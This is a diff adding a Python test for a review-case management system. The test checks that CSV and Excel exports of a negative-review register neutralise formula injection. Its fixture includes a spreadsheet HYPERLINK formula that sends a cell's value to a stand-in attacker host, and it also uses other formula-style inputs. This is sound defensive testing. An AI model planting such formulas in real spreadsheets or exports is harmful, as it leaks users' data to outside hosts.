@@ -114,3 +114,32 @@ def test_the_negative_review_register_puts_severe_cases_first(server, tokens, fd
     register = server.get("/api/v1/reports/negative-reviews", tokens["supervisor"]).json()["items"]
     assert [r["severity"] for r in register] == ["severe", "moderate", "minor"]
     assert register[0]["wangwang_id"] == "tb_lily88" and register[0]["case_no"].startswith("ZCP")
+
+
+def test_typed_text_never_runs_as_a_formula_in_the_downloads(server, tokens, fd) -> None:  # type: ignore[no-untyped-def]
+    """A buyer's review copied into a case (and so into the register) that starts with "=",
+    "+", "-" or "@" stays text in the CSV and the Excel file (CSV injection)."""
+    from openpyxl import load_workbook
+
+    from services.identity import create_token, ensure_user
+    from tests.negative_review_paths import REVIEW
+    admin = tokens["admin"]
+    ensure_user(fd, "huilan", ["staff"], ["AfterSales"])
+    huilan = create_token(fd, "huilan")
+    assert deploy(server, admin, bundle(PROCESSES / "negative-review")).ok
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
+    typed = {"review_content": evil, "item": "@SUM(1+1)", "wangwang_id": "-2+3"}
+    case = server.post("/api/v1/instances", admin, json={"process_key": "negative_review"}).json()
+    done = server.post(f"/api/v1/tasks/{case['open_tasks'][0]['id']}/complete", huilan,
+                       json={"data": {**REVIEW, **typed, "severity": "severe",
+                                      "rating": "negative"}})
+    assert done.ok, done.text
+    url = "/api/v1/reports/negative-reviews"
+    text = server.get(url + "?format=csv", tokens["supervisor"]).content.decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert {row[k] for k in typed} == {"'" + v for v in typed.values()}
+    book = load_workbook(io.BytesIO(server.get(url + "?format=xlsx",
+                                               tokens["supervisor"]).content))
+    cells = [c for line in book.active.iter_rows(min_row=2) for c in line]
+    assert evil in [c.value for c in cells]
+    assert all(c.data_type != "f" for c in cells)
